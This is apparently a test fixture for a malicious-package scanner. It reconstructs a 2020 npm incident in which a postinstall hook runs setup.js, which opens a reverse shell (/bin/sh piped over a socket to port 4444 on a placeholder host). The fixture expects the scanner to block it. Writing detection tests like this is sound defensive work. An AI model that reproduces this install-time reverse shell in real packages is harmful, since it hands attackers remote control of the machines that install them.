import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'incident-reverse-shell',
  from: 'twilio-npm, 2020: a shell on a socket',
  files: {
    'package.json': { name: 'incident', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
    'setup.js': `const net = require('net');
const { spawn } = require('child_process');
const shell = spawn('/bin/sh', []);
const socket = net.connect(4444, 'shell.invalid', () => {
  socket.pipe(shell.stdin);
  shell.stdout.pipe(socket);
  shell.stderr.pipe(socket);
});
`,
  },
  expect: 'block',
  says: ['opens-reverse-shell'],
};
